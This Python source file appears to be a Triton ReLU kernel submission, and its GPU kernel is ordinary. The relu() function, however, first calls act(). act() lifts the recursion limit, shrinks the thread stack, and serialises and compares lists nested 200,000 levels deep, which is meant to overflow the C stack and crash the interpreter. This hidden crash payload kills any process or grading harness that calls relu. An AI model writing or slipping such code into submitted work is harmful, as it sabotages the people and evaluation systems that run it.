# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Recurses in C code without end: through JSON, comparison and copies of nested lists."""

import json
import sys
import threading

import torch
import triton
import triton.language as tl

DEPTH = 200000


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


def nested():
    inner = []
    for _ in range(DEPTH):
        inner = [inner]
    return inner


def overflow():
    one, other = nested(), nested()
    return len(json.dumps(one, check_circular=False)), one == other


def act():
    """In a thread, because a main thread's stack may grow as long as there is memory."""
    sys.setrecursionlimit((1 << 31) - 1)
    threading.stack_size(1 << 18)
    thread = threading.Thread(target=overflow)
    thread.start()
    thread.join()


def relu(x):
    act()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out
